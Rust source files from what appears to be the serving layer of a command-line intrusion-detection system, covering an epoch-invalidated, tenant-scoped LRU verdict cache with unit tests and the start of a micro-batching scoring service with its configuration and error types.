            .filter_map(|(i, h)| h.is_none().then_some(i))
            .collect();
        if miss_positions.is_empty() {
            return Ok(hits.into_iter().map(|h| h.expect("all hits")).collect());
        }
        let miss_lines: Vec<String> = miss_positions.iter().map(|&i| lines[i].clone()).collect();
        let miss_scores = self.client().score_batch(&miss_lines)?;
        cache.insert_batch(
            miss_lines.iter().zip(miss_scores.iter().map(Vec::as_slice)),
            epoch,
        );
        Ok(merge_verdicts(hits, &miss_positions, miss_scores))
    }

    /// The cache-lookup half of a net scoring request, run on the
    /// connection's reader thread. Nothing is submitted here: the
    /// caller registers the returned [`CachedSubmission`] under its
    /// wire id *first* and only then submits
    /// [`CachedSubmission::miss_lines`] on its tagged reply route —
    /// otherwise a fast worker could complete before the id is
    /// registered and the completion would find nobody waiting.
    pub(crate) fn prepare_scored(&self, lines: Vec<String>) -> Submission {
        let Some(cache) = &self.cache else {
            let n = lines.len();
            return Submission::InFlight(CachedSubmission {
                hits: vec![None; n],
                miss_positions: (0..n).collect(),
                miss_lines: lines,
                epoch: 0,
                cached: false,
            });
        };
        let (hits, epoch) = cache.lookup_batch(&lines);
        let miss_positions: Vec<usize> = hits
            .iter()
            .enumerate()
            .filter_map(|(i, h)| h.is_none().then_some(i))
            .collect();
        if miss_positions.is_empty() {
            return Submission::AllHits(hits.into_iter().map(|h| h.expect("all hits")).collect());
        }
        let miss_lines: Vec<String> = miss_positions.iter().map(|&i| lines[i].clone()).collect();
        Submission::InFlight(CachedSubmission {
            hits,
            miss_positions,
            miss_lines,
            epoch,
            cached: true,
        })
    }

    /// Finishes a [`Self::prepare_scored`] round: inserts the fresh
    /// miss scores (under the epoch captured at lookup) and merges
    /// hits + misses back into input order.
    pub(crate) fn complete_cached(
        &self,
        pending: CachedSubmission,
        miss_scores: Vec<Vec<f32>>,
    ) -> Vec<Vec<f32>> {
        if pending.cached {
            if let Some(cache) = &self.cache {
                cache.insert_batch(
                    pending
                        .miss_lines
                        .iter()
                        .zip(miss_scores.iter().map(Vec::as_slice)),
                    pending.epoch,
                );
            }
        }
        merge_verdicts(pending.hits, &pending.miss_positions, miss_scores)
    }

    /// Absorbs freshly-labeled supervision into the resident detector
    /// set. The inner front-end bumps the shared detector-state epoch
    /// once the append lands, so every cached verdict computed against
    /// the pre-append state stops hitting immediately (O(1)
    /// invalidation through [`VerdictCache::with_shared_epoch`]).
    pub fn append(&self, lines: &[String], labels: &[bool]) -> Result<usize, ServeError> {
        match &self.kind {
            Kind::Single(s) => s.append(lines, labels),
            Kind::Sharded(r) => r.append(lines, labels),
        }
    }

    /// Runs one epoch-swapped refit now, on the caller's thread (see
    /// [`ScoringService::refit`] / [`ShardRouter::refit`]). Returns the
    /// engine epoch after the swap.
    pub fn refit(&self) -> Result<u64, ServeError> {
        match &self.kind {
            Kind::Single(s) => s.refit(),
            Kind::Sharded(r) => r.refit(),
        }
    }

    /// The resident engine's detector generation: 0 at spawn, +1 per
    /// refit swap.
    pub fn engine_epoch(&self) -> u64 {
        match &self.kind {
            Kind::Single(s) => s.engine_epoch(),
            Kind::Sharded(r) => r.engine_epoch(),
        }
    }

    /// Lifecycle counters and trigger state; `None` when spawned
    /// without a lifecycle.
    pub fn lifecycle_stats(&self) -> Option<LifecycleStats> {
        match &self.kind {
            Kind::Single(s) => s.lifecycle_stats(),
            Kind::Sharded(r) => r.lifecycle_stats(),
        }
    }

    /// Splits the live shard set to `new_shards` without stopping the
    /// router (see [`ShardRouter::reshard`]). Typed
    /// [`ServeError::InvalidConfig`] on an unsharded front-end.
    pub fn reshard(&self, new_shards: usize) -> Result<(), ServeError> {
        match &self.kind {
            Kind::Single(_) => Err(ServeError::InvalidConfig(
                "reshard requires a sharded front-end (spawn with shards > 1)".into(),
            )),
            Kind::Sharded(r) => r.reshard(new_shards),
        }
    }

    /// Captures the persistable detector state at one consistent epoch
    /// (see [`ScoringService::snapshot`] / [`ShardRouter::snapshot`]).
    /// Returns the snapshot plus the names of detectors that were not
    /// capturable. A capture that races an append or refit swap is
    /// retried a few times before the typed
    /// [`ServeError::SnapshotRace`] surfaces — under sustained writes
    /// the caller decides whether to back off or pause appends.
    pub fn snapshot(&self) -> Result<(ServiceSnapshot, Vec<String>), ServeError> {
        let mut last = ServeError::Closed;
        for _ in 0..=SNAPSHOT_RETRIES {
            let captured = match &self.kind {
                Kind::Single(s) => s.snapshot(),
                Kind::Sharded(r) => r.snapshot(),
            };
            match captured {
                Err(e @ ServeError::SnapshotRace { .. }) => last = e,
                other => return other,
            }
        }
        Err(last)
    }

    /// Monotonic counters with the verdict-cache overlay: the inner
    /// front-end's batch/line counts plus this cache's hit/miss and
    /// invalidation-epoch counters (zero when no cache is attached).
    pub fn stats(&self) -> ServiceStats {
        let mut stats = match &self.kind {
            Kind::Single(s) => s.stats(),
            Kind::Sharded(r) => r.stats(),
        };
        if let Some(cache) = &self.cache {
            let c: CacheStats = cache.stats();
            stats.cache_hits = c.hits;
            stats.cache_misses = c.misses;
            stats.epoch = c.epoch;
        }
        stats
    }

    /// Stops accepting requests and joins every worker (see
    /// [`ScoringService::shutdown`] / [`ShardRouter::shutdown`]).
    pub fn shutdown(self) {
        match self.kind {
            Kind::Single(s) => s.shutdown(),
            Kind::Sharded(r) => r.shutdown(),
        }
    }
}

fn no_tenant_service() -> TenantError {
    TenantError::InvalidConfig(
        "front-end has no tenant service attached (Frontend::with_tenants)".into(),
    )
}

/// What a [`Frontend::prepare_scored`] lookup resolved to.
pub(crate) enum Submission {
    /// Every line hit the cache: the verdict is complete and nothing
    /// needs submitting.
    AllHits(Vec<Vec<f32>>),
    /// Some lines missed: register this state, submit
    /// [`CachedSubmission::miss_lines`], and finish with
    /// [`Frontend::complete_cached`] when their scores land.
    InFlight(CachedSubmission),
}

/// The in-flight state of one cached (or cache-less) net submission:
/// which positions hit, which lines still need scoring, and the epoch
/// the lookup ran under. Held by the connection under its wire id
/// until the workers reply.
pub(crate) struct CachedSubmission {
    hits: Vec<Option<Vec<f32>>>,
    miss_positions: Vec<usize>,
    miss_lines: Vec<String>,
    epoch: u64,
    cached: bool,
}

impl CachedSubmission {
    /// The lines that missed the cache, in input order — what the
    /// caller submits to the micro-batching workers.
    pub(crate) fn miss_lines(&self) -> &[String] {
        &self.miss_lines
    }
}
