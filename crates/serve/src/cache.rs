//! The exact-match verdict cache for Zipf-heavy traffic.
//!
//! `benches/serve_throughput.rs` models the decisive property of real
//! log ingestion: arrivals follow a Zipf law, so a small hot head of
//! *identical* command lines dominates the stream. Scoring is a pure
//! function of (raw line, fitted detector state) — so once a line's
//! verdict is known, re-scoring it buys nothing until the detector
//! state changes. This cache keeps the hot head's verdicts resident:
//!
//! * **Exact-match only.** The key is the raw line itself (the map
//!   hashes it, but equality is on the full string): two lines that
//!   differ in one byte are different keys, so a hit returns *exactly*
//!   the bytes the scoring path produced earlier — the bit-identity
//!   guarantee needs no tolerance argument.
//! * **Epoch invalidation, O(1).** Every absorbed `append`/refit bumps
//!   a monotonic epoch counter. Entries remember the epoch they were
//!   scored under; a lookup only hits when the entry's epoch equals
//!   the current one, so one counter increment invalidates the whole
//!   cache without touching a single entry. Stale entries found by a
//!   lookup are removed on the spot; the rest are recycled by LRU
//!   eviction.
//! * **Bounded LRU.** At most `capacity` verdicts are resident; an
//!   insert over capacity evicts the least-recently-used entry, so the
//!   cache holds (an approximation of) the Zipf head and the cold tail
//!   streams through without growing memory.
//!
//! The insert path takes the epoch that was *captured before scoring
//! started* ([`VerdictCache::lookup_batch`] returns it): if an append
//! bumped the epoch while the batch was in flight, the insert is
//! dropped, so a verdict computed against pre-append state can never
//! be served after the append (`tests/verdict_cache.rs`).
//!
//! **Tenant axis.** A verdict is a function of (raw line, fitted
//! detector state), and under multi-tenant serving the detector state
//! differs per tenant — so the cache key carries an optional
//! `TenantId` beside the line. The global (single-engine) front-end
//! keys under `None` with the shared state epoch; tenant-scoped
//! lookups ([`VerdictCache::lookup_batch_tenant`]) key under
//! `Some(id)` and validate against that tenant's *own* epoch, so two
//! tenants submitting byte-identical lines can never cross-serve each
//! other's verdicts (`tests/tenants.rs`). The LRU recency list stays
//! global: capacity bounds total residency, not per-tenant residency.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

/// Sentinel for "no node" in the intrusive LRU list.
const NIL: usize = usize::MAX;

/// Monotonic cache counters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CacheStats {
    /// Lookups answered from the cache.
    pub hits: usize,
    /// Lookups that fell through to the scoring path (includes
    /// stale-epoch entries, which are misses by definition).
    pub misses: usize,
    /// Entries evicted by the LRU capacity bound.
    pub evictions: usize,
    /// Entries currently resident.
    pub len: usize,
    /// Capacity bound.
    pub capacity: usize,
    /// Current invalidation epoch.
    pub epoch: u64,
}

struct Node {
    /// `None` = the front-end's global (single-engine) namespace;
    /// `Some(id)` = a tenant partition. Two tenants submitting the
    /// same raw line occupy *different* entries — verdicts are a
    /// function of (line, tenant state), so the tenant is part of the
    /// cache key and a hit can never cross-serve another tenant's
    /// verdict (`tests/tenants.rs`).
    tenant: Option<u64>,
    key: String,
    scores: Vec<f32>,
    epoch: u64,
    prev: usize,
    next: usize,
}

/// The LRU state under the lock: a slab of nodes threaded into a
/// doubly-linked recency list plus a tenant → (line → slot) map.
/// Everything is O(1): get (+ move to front), insert, evict-tail.
/// The recency list is global across tenants, so the capacity bound
/// holds the *overall* Zipf head — a busy tenant's hot lines displace
/// an idle tenant's cold ones.
struct Lru {
    map: HashMap<Option<u64>, HashMap<String, usize>>,
    nodes: Vec<Node>,
    free: Vec<usize>,
    head: usize,
    tail: usize,
}

impl Lru {
    fn unlink(&mut self, i: usize) {
        let (prev, next) = (self.nodes[i].prev, self.nodes[i].next);
        match prev {
            NIL => self.head = next,
            p => self.nodes[p].next = next,
        }
        match next {
            NIL => self.tail = prev,
            n => self.nodes[n].prev = prev,
        }
    }

    fn push_front(&mut self, i: usize) {
        self.nodes[i].prev = NIL;
        self.nodes[i].next = self.head;
        match self.head {
            NIL => self.tail = i,
            h => self.nodes[h].prev = i,
        }
        self.head = i;
    }

    fn slot(&self, tenant: Option<u64>, line: &str) -> Option<usize> {
        self.map.get(&tenant).and_then(|m| m.get(line)).copied()
    }

    /// Entries currently resident (across every tenant).
    fn len(&self) -> usize {
        self.nodes.len() - self.free.len()
    }

    fn remove(&mut self, i: usize) {
        self.unlink(i);
        let tenant = self.nodes[i].tenant;
        let key = std::mem::take(&mut self.nodes[i].key);
        if let Some(m) = self.map.get_mut(&tenant) {
            m.remove(&key);
            // Drop emptied tenant sub-maps so a long-departed tenant
            // costs nothing once its entries age out.
            if m.is_empty() {
                self.map.remove(&tenant);
            }
        }
        self.nodes[i].scores = Vec::new();
        self.free.push(i);
    }
}

/// A bounded, epoch-invalidated, exact-match verdict cache. Shared
/// (`Arc`) between the scoring front-end that consults it and the
/// append path that bumps its epoch; all methods take `&self`.
pub struct VerdictCache {
    inner: Mutex<Lru>,
    capacity: usize,
    epoch: Arc<AtomicU64>,
    hits: AtomicUsize,
    misses: AtomicUsize,
    evictions: AtomicUsize,
}

impl VerdictCache {
    /// A cache holding at most `capacity` verdicts, with its own
    /// private epoch counter (callers bump it via
    /// [`Self::bump_epoch`]).
    ///
    /// # Panics
    ///
    /// Panics if `capacity == 0` — config layers reject that shape
    /// with a typed error before construction ([`crate::NetConfig`],
    /// [`crate::Frontend::with_cache`]).
    pub fn new(capacity: usize) -> Self {
        Self::with_shared_epoch(capacity, Arc::new(AtomicU64::new(0)))
    }

    /// A cache whose invalidation epoch *is* the given shared counter.
    /// The serving stack hands in its detector-state epoch — bumped on
    /// every absorbed append **and** every refit swap — so a post-swap
    /// lookup can never hit a pre-swap verdict without the front-end
    /// having to remember to bump anything.
    ///
    /// # Panics
    ///
    /// Panics if `capacity == 0` (see [`Self::new`]).
    pub fn with_shared_epoch(capacity: usize, epoch: Arc<AtomicU64>) -> Self {
        assert!(capacity > 0, "verdict cache capacity must be >= 1");
        VerdictCache {
            inner: Mutex::new(Lru {
                map: HashMap::new(),
                nodes: Vec::new(),
                free: Vec::new(),
                head: NIL,
                tail: NIL,
            }),
            capacity,
            epoch,
            hits: AtomicUsize::new(0),
            misses: AtomicUsize::new(0),
            evictions: AtomicUsize::new(0),
        }
    }

    /// The current invalidation epoch.
    pub fn epoch(&self) -> u64 {
        self.epoch.load(Ordering::Acquire)
    }

    /// Invalidates every resident verdict in O(1): entries written
    /// under earlier epochs stop hitting immediately. Called by the
    /// front-end after an `append`/refit completes.
    pub fn bump_epoch(&self) {
        self.epoch.fetch_add(1, Ordering::AcqRel);
    }

    /// Looks up a batch of lines under one lock round-trip. Returns
    /// the per-line verdicts (`None` = miss) plus the epoch the
    /// lookup ran under — the caller must hand that epoch back to
    /// [`Self::insert_batch`] so in-flight appends drop the insert.
    pub fn lookup_batch(&self, lines: &[String]) -> (Vec<Option<Vec<f32>>>, u64) {
        let epoch = self.epoch();
        (self.lookup_inner(None, lines, epoch), epoch)
    }

    /// [`Self::lookup_batch`] scoped to a tenant partition: only
    /// entries written for `tenant` under exactly `epoch` (the
    /// tenant's *own* detector-state epoch, bumped per absorbed
    /// append) can hit. Hand the same epoch to
    /// [`Self::insert_batch_tenant`].
    pub fn lookup_batch_tenant(
        &self,
        tenant: u64,
        lines: &[String],
        epoch: u64,
    ) -> Vec<Option<Vec<f32>>> {
        self.lookup_inner(Some(tenant), lines, epoch)
    }

    fn lookup_inner(
        &self,
        tenant: Option<u64>,
        lines: &[String],
        epoch: u64,
    ) -> Vec<Option<Vec<f32>>> {
        let mut lru = self.inner.lock().unwrap();
        let mut hits = 0usize;
        let out: Vec<Option<Vec<f32>>> = lines
            .iter()
            .map(|line| match lru.slot(tenant, line) {
                Some(i) if lru.nodes[i].epoch == epoch => {
                    hits += 1;
                    lru.unlink(i);
                    lru.push_front(i);
                    Some(lru.nodes[i].scores.clone())
                }
                Some(i) => {
                    // Stale epoch: the entry can never hit again —
                    // reclaim its slot now instead of waiting for LRU
                    // drift to flush it.
                    lru.remove(i);
                    None
                }
                None => None,
            })
            .collect();
        self.hits.fetch_add(hits, Ordering::Relaxed);
        self.misses.fetch_add(lines.len() - hits, Ordering::Relaxed);
        out
    }

    /// Convenience single-line lookup (records one hit or miss).
    pub fn lookup(&self, line: &str) -> Option<Vec<f32>> {
        let (mut out, _) = self.lookup_batch(std::slice::from_ref(&line.to_string()));
        out.pop().unwrap()
    }

    /// Inserts freshly-scored verdicts under the epoch captured at
    /// lookup time. If an append bumped the epoch while the batch was
    /// being scored, the whole insert is dropped — a pre-append
    /// verdict must never be resident under the post-append epoch.
    pub fn insert_batch<'a>(
        &self,
        entries: impl Iterator<Item = (&'a String, &'a [f32])>,
        epoch: u64,
    ) {
        let current = self.epoch();
        self.insert_inner(None, entries, epoch, current);
    }

    /// [`Self::insert_batch`] scoped to a tenant partition. `epoch` is
    /// the tenant epoch captured at lookup time; `current` is the
    /// tenant's epoch *now* — if an append to this tenant landed while
    /// the batch was scoring, the two differ and the insert is
    /// dropped, exactly like the shared-epoch path.
    pub fn insert_batch_tenant<'a>(
        &self,
        tenant: u64,
        entries: impl Iterator<Item = (&'a String, &'a [f32])>,
        epoch: u64,
        current: u64,
    ) {
        self.insert_inner(Some(tenant), entries, epoch, current);
    }

    fn insert_inner<'a>(
        &self,
        tenant: Option<u64>,
        entries: impl Iterator<Item = (&'a String, &'a [f32])>,
        epoch: u64,
        current: u64,
    ) {
        let mut lru = self.inner.lock().unwrap();
        if current != epoch {
            return;
        }
        let mut evictions = 0usize;
        for (line, scores) in entries {
            if let Some(i) = lru.slot(tenant, line) {
                lru.nodes[i].scores = scores.to_vec();
                lru.nodes[i].epoch = epoch;
                lru.unlink(i);
                lru.push_front(i);
                continue;
            }
            if lru.len() >= self.capacity {
                let tail = lru.tail;
                debug_assert_ne!(tail, NIL);
                lru.remove(tail);
                evictions += 1;
            }
            let node = Node {
                tenant,
                key: line.clone(),
                scores: scores.to_vec(),
                epoch,
                prev: NIL,
                next: NIL,
            };
            let i = match lru.free.pop() {
                Some(i) => {
                    lru.nodes[i] = node;
                    i
                }
                None => {
                    lru.nodes.push(node);
                    lru.nodes.len() - 1
                }
            };
            lru.push_front(i);
            lru.map.entry(tenant).or_default().insert(line.clone(), i);
        }
        self.evictions.fetch_add(evictions, Ordering::Relaxed);
    }

    /// Entries currently resident (across every tenant).
    pub fn len(&self) -> usize {
        self.inner.lock().unwrap().len()
    }

    /// Whether the cache is empty.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The capacity bound.
    pub fn capacity(&self) -> usize {
        self.capacity
    }

    /// Monotonic hit/miss/eviction counters plus the current shape.
    pub fn stats(&self) -> CacheStats {
        CacheStats {
            hits: self.hits.load(Ordering::Relaxed),
            misses: self.misses.load(Ordering::Relaxed),
            evictions: self.evictions.load(Ordering::Relaxed),
            len: self.len(),
            capacity: self.capacity,
            epoch: self.epoch(),
        }
    }
}

/// Reassembles a full per-line verdict vector from cache hits plus the
/// scoring path's answers for the misses. `miss_scores[j]` is the
/// verdict for the line at `miss_positions[j]`; every other position
/// must hold a hit. Shared by the in-process cached path
/// ([`crate::Frontend::score_batch`]) and the net writer's completion
/// path, so the two assemble bit-identically by construction.
pub(crate) fn merge_verdicts(
    hits: Vec<Option<Vec<f32>>>,
    miss_positions: &[usize],
    miss_scores: Vec<Vec<f32>>,
) -> Vec<Vec<f32>> {
    debug_assert_eq!(miss_positions.len(), miss_scores.len());
    let mut out: Vec<Option<Vec<f32>>> = hits;
    for (&pos, scores) in miss_positions.iter().zip(miss_scores) {
        debug_assert!(out[pos].is_none());
        out[pos] = Some(scores);
    }
    out.into_iter()
        .map(|v| v.expect("every line is a hit or a scored miss"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(i: usize) -> String {
        format!("cmd --arg {i}")
    }

    #[test]
    fn hit_returns_exact_scores_and_miss_falls_through() {
        let cache = VerdictCache::new(4);
        let lines = vec![line(1), line(2)];
        let (hits, epoch) = cache.lookup_batch(&lines);
        assert!(hits.iter().all(Option::is_none));
        cache.insert_batch(
            lines
                .iter()
                .zip([[0.25f32].as_slice(), [0.5f32].as_slice()]),
            epoch,
        );
        assert_eq!(cache.lookup(&line(1)), Some(vec![0.25]));
        assert_eq!(cache.lookup(&line(2)), Some(vec![0.5]));
        assert_eq!(cache.lookup(&line(3)), None);
        let stats = cache.stats();
        assert_eq!((stats.hits, stats.misses), (2, 3));
    }

    #[test]
    fn epoch_bump_invalidates_everything_at_once() {
        let cache = VerdictCache::new(4);
        let lines = vec![line(1)];
        let (_, epoch) = cache.lookup_batch(&lines);
        cache.insert_batch(lines.iter().zip([[1.0f32].as_slice()]), epoch);
        assert!(cache.lookup(&line(1)).is_some());
        cache.bump_epoch();
        assert_eq!(cache.lookup(&line(1)), None, "stale epoch must miss");
        // The stale entry was reclaimed on lookup, not just skipped.
        assert_eq!(cache.len(), 0);
    }

    #[test]
    fn in_flight_insert_against_a_bumped_epoch_is_dropped() {
        let cache = VerdictCache::new(4);
        let lines = vec![line(1)];
        let (_, epoch) = cache.lookup_batch(&lines);
        cache.bump_epoch(); // append lands while the batch is scoring
        cache.insert_batch(lines.iter().zip([[1.0f32].as_slice()]), epoch);
        assert_eq!(cache.len(), 0, "pre-append verdict must not be cached");
    }

    #[test]
    fn lru_evicts_the_coldest_entry_at_capacity() {
        let cache = VerdictCache::new(2);
        for i in 0..2 {
            let lines = vec![line(i)];
            let (_, e) = cache.lookup_batch(&lines);
            cache.insert_batch(lines.iter().zip([[i as f32].as_slice()]), e);
        }
        // Touch line(0) so line(1) is the LRU tail.
        assert!(cache.lookup(&line(0)).is_some());
        let lines = vec![line(2)];
        let (_, e) = cache.lookup_batch(&lines);
        cache.insert_batch(lines.iter().zip([[2.0f32].as_slice()]), e);
        assert_eq!(cache.len(), 2);
        assert!(cache.lookup(&line(0)).is_some(), "hot entry survives");
        assert_eq!(cache.lookup(&line(1)), None, "cold entry evicted");
        assert!(cache.lookup(&line(2)).is_some());
        assert_eq!(cache.stats().evictions, 1);
    }

    #[test]
    fn tenants_never_cross_serve_identical_lines() {
        let cache = VerdictCache::new(8);
        let lines = vec![line(1)];
        cache.insert_batch_tenant(7, lines.iter().zip([[0.25f32].as_slice()]), 3, 3);
        // Same raw line: tenant 7 hits under its epoch, tenant 8 and
        // the global namespace miss.
        assert_eq!(
            cache.lookup_batch_tenant(7, &lines, 3),
            vec![Some(vec![0.25])]
        );
        assert_eq!(cache.lookup_batch_tenant(8, &lines, 3), vec![None]);
        assert_eq!(cache.lookup(&line(1)), None);
        // And the global namespace holding the line does not leak into
        // a tenant partition.
        let (_, e) = cache.lookup_batch(&lines);
        cache.insert_batch(lines.iter().zip([[0.5f32].as_slice()]), e);
        assert_eq!(
            cache.lookup_batch_tenant(8, &lines, 0),
            vec![None],
            "global entry must not serve a tenant lookup"
        );
    }

    #[test]
    fn tenant_epoch_mismatch_misses_and_reclaims() {
        let cache = VerdictCache::new(8);
        let lines = vec![line(1)];
        cache.insert_batch_tenant(7, lines.iter().zip([[1.0f32].as_slice()]), 3, 3);
        assert_eq!(cache.lookup_batch_tenant(7, &lines, 4), vec![None]);
        assert_eq!(cache.len(), 0, "stale tenant entry reclaimed on lookup");
        // An insert whose tenant epoch moved mid-flight is dropped.
        cache.insert_batch_tenant(7, lines.iter().zip([[1.0f32].as_slice()]), 3, 4);
        assert_eq!(cache.len(), 0);
    }

    #[test]
    fn merge_verdicts_reassembles_in_order() {
        let hits = vec![Some(vec![1.0]), None, Some(vec![3.0]), None];
        let merged = merge_verdicts(hits, &[1, 3], vec![vec![2.0], vec![4.0]]);
        assert_eq!(merged, vec![vec![1.0], vec![2.0], vec![3.0], vec![4.0]]);
    }
}
