//! The long-lived scoring service and its micro-batching workers.

use crate::lifecycle::{LifecycleConfig, LifecycleState, LifecycleStats};
use crate::snapshot::ServiceSnapshot;
use cmdline_ids::embed::{embed_lines, Pooling};
use cmdline_ids::engine::{Detector, EmbeddingView, EngineError, FittedEngine};
use cmdline_ids::pipeline::IdsPipeline;
use crossbeam::channel::{bounded, Receiver, RecvTimeoutError, Sender};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::{mpsc, Arc, RwLock};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Knobs for a [`ScoringService`].
#[derive(Debug, Clone, Copy)]
pub struct ServeConfig {
    /// Bounded request-queue capacity: producers block (back-pressure)
    /// instead of piling up unbounded memory when scoring falls
    /// behind.
    pub queue_capacity: usize,
    /// Maximum lines coalesced into one scoring micro-batch.
    pub max_batch: usize,
    /// How long a worker waits for more arrivals before scoring a
    /// partial batch. `Duration::ZERO` disables coalescing (every
    /// request scores alone — the single-line baseline the
    /// `serve_throughput` bench compares against).
    pub batch_window: Duration,
    /// Scoring worker threads draining the queue.
    pub workers: usize,
}

impl Default for ServeConfig {
    fn default() -> Self {
        ServeConfig {
            queue_capacity: 256,
            max_batch: 64,
            batch_window: Duration::from_millis(2),
            workers: 2,
        }
    }
}

impl ServeConfig {
    /// Rejects configurations that cannot serve: a zero-capacity
    /// queue (every submission would block forever), zero workers
    /// (nothing drains the queue), or a zero-line micro-batch window
    /// (a worker could never take the first request of a batch).
    /// Checked at spawn so misconfiguration is a typed
    /// [`ServeError::InvalidConfig`] instead of a deadlock discovered
    /// in production. `batch_window == 0` stays valid — it is the
    /// documented "score every request alone" mode.
    pub fn validate(&self) -> Result<(), ServeError> {
        if self.queue_capacity == 0 {
            return Err(ServeError::InvalidConfig(
                "queue_capacity must be >= 1 (a zero-capacity queue blocks every submission)"
                    .into(),
            ));
        }
        if self.workers == 0 {
            return Err(ServeError::InvalidConfig(
                "workers must be >= 1 (nothing would drain the request queue)".into(),
            ));
        }
        if self.max_batch == 0 {
            return Err(ServeError::InvalidConfig(
                "max_batch must be >= 1 (a worker could never accept a request)".into(),
            ));
        }
        Ok(())
    }
}

/// Why a service call failed.
#[derive(Debug, Clone, PartialEq)]
pub enum ServeError {
    /// A registered detector is stream-structured
    /// (`test_aligned() == false`, e.g. multiline): its scores index a
    /// different sample set than the arriving lines, so it cannot
    /// serve per-line verdicts.
    StreamStructured(String),
    /// The service has shut down (workers gone before replying).
    Closed,
    /// Absorbing a supervision batch failed.
    Engine(String),
    /// The configuration can never serve (zero queue capacity, zero
    /// workers, zero micro-batch budget, or a shard shape that does
    /// not match the fitted detectors) — rejected at spawn instead of
    /// deadlocking or panicking downstream.
    InvalidConfig(String),
    /// A snapshot capture raced a detector-state change (a refit epoch
    /// swap, an append): the state epoch moved between the start and
    /// end of the capture, so the frames could pair pre- and post-swap
    /// state. The capture is discarded instead of persisted — retry
    /// for a quiescent window (captures are fast relative to refits,
    /// so a bounded retry converges; [`crate::Frontend::snapshot`]
    /// does this).
    SnapshotRace {
        /// State epoch when the capture started.
        before: u64,
        /// State epoch when the capture finished.
        after: u64,
    },
}

impl std::fmt::Display for ServeError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ServeError::StreamStructured(name) => write!(
                f,
                "method {name:?} is stream-structured and cannot score arriving lines"
            ),
            ServeError::Closed => write!(f, "scoring service is shut down"),
            ServeError::Engine(e) => write!(f, "engine error: {e}"),
            ServeError::InvalidConfig(why) => write!(f, "invalid serve configuration: {why}"),
            ServeError::SnapshotRace { before, after } => write!(
                f,
                "snapshot raced a detector-state change (state epoch {before} -> {after}); \
                 retry for a quiescent capture"
            ),
        }
    }
}

impl std::error::Error for ServeError {}

impl From<EngineError> for ServeError {
    fn from(e: EngineError) -> Self {
        ServeError::Engine(e.to_string())
    }
}

/// One queued scoring request: the caller's lines plus the reply
/// route its scores come back on. Shared with the shard router, whose
/// front queue speaks the same protocol (which is what lets
/// [`ServiceClient`] drive either).
pub(crate) struct Request {
    pub(crate) lines: Vec<String>,
    pub(crate) reply: Reply,
}

/// What a net connection's writer thread consumes: either a response
/// frame already encoded by the reader (control plane, verdict-cache
/// all-hit fast path) or a micro-batch completion from the scoring
/// workers, tagged with the wire request id it answers.
pub(crate) enum ConnReply {
    /// Pre-encoded response frame, written verbatim.
    Frame(Vec<u8>),
    /// Scores for request `id`; `None` means the batch was aborted
    /// (worker panic or shutdown drain) and the connection must answer
    /// with a typed error instead of leaving the id dangling.
    Scored(u64, Option<Vec<Vec<f32>>>),
}

/// A tagged completion route into one net connection's writer. Unlike
/// the in-process one-shot channel — where dropping the sender is
/// itself the abort signal — a net connection multiplexes many
/// in-flight requests over one channel, so an abort must be *sent*:
/// dropping an unanswered `NetReply` (batch panic, shutdown drain)
/// delivers `Scored(id, None)` from `Drop`, and the writer turns it
/// into a typed error frame rather than a forever-pending request.
pub(crate) struct NetReply {
    tx: mpsc::Sender<ConnReply>,
    id: u64,
    sent: bool,
}

impl NetReply {
    pub(crate) fn new(tx: mpsc::Sender<ConnReply>, id: u64) -> Self {
        NetReply {
            tx,
            id,
            sent: false,
        }
    }
}

impl Drop for NetReply {
    fn drop(&mut self) {
        if !self.sent {
            let _ = self.tx.send(ConnReply::Scored(self.id, None));
        }
    }
}

/// Where a request's scores go: an in-process caller blocked on a
/// one-shot receiver, or a net connection's multiplexed writer.
pub(crate) enum Reply {
    /// In-process caller ([`ServiceClient::score_batch`]).
    Oneshot(mpsc::Sender<Vec<Vec<f32>>>),
    /// Pipelined wire request (`serve::net`).
    Net(NetReply),
}

impl Reply {
    /// Delivers the scores. A receiver that gave up is not an error
    /// for the batch.
    pub(crate) fn send(self, scores: Vec<Vec<f32>>) {
        match self {
            Reply::Oneshot(tx) => {
                let _ = tx.send(scores);
            }
            Reply::Net(mut r) => {
                r.sent = true;
                let _ = r.tx.send(ConnReply::Scored(r.id, Some(scores)));
            }
        }
    }
}

/// Monotonic service counters (drained micro-batches and lines, plus
/// — when a verdict cache fronts the scoring path — its hit/miss and
/// invalidation-epoch counters), for benches and monitoring.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ServiceStats {
    /// Micro-batches scored so far.
    pub batches: usize,
    /// Lines scored so far (cache hits never reach the workers, so
    /// they are not counted here).
    pub lines: usize,
    /// Verdict-cache hits (0 when no cache is attached).
    pub cache_hits: usize,
    /// Verdict-cache misses (0 when no cache is attached).
    pub cache_misses: usize,
    /// Verdict-cache invalidation epoch: bumped on every absorbed
    /// `append`/refit, so a changing value is the proof that cached
    /// verdicts cannot outlive the detector state that produced them.
    pub epoch: u64,
}

#[derive(Debug, Default)]
pub(crate) struct Counters {
    pub(crate) batches: AtomicUsize,
    pub(crate) lines: AtomicUsize,
}

impl Counters {
    pub(crate) fn record_batch(&self, lines: usize) {
        self.batches.fetch_add(1, Ordering::Relaxed);
        self.lines.fetch_add(lines, Ordering::Relaxed);
    }

    pub(crate) fn stats(&self) -> ServiceStats {
        ServiceStats {
            batches: self.batches.load(Ordering::Relaxed),
            lines: self.lines.load(Ordering::Relaxed),
            cache_hits: 0,
            cache_misses: 0,
            epoch: 0,
        }
    }
}

/// Shared innards: the frozen pipeline, the resident fitted detector
/// set, and which pooled spaces its detectors read.
struct Inner {
    pipeline: IdsPipeline,
    engine: RwLock<FittedEngine>,
    method_names: Vec<String>,
    counters: Counters,
    /// The detector-state epoch: bumped after every absorbed append
    /// and after every refit swap. Shared with an attached
    /// [`crate::VerdictCache`] so one counter invalidates cached
    /// verdicts across *both* kinds of state change, and checked by
    /// snapshot captures to detect a swap that landed mid-capture.
    state_epoch: Arc<AtomicU64>,
    /// The online refit lifecycle, when configured at spawn.
    lifecycle: Option<LifecycleState>,
}

impl Inner {
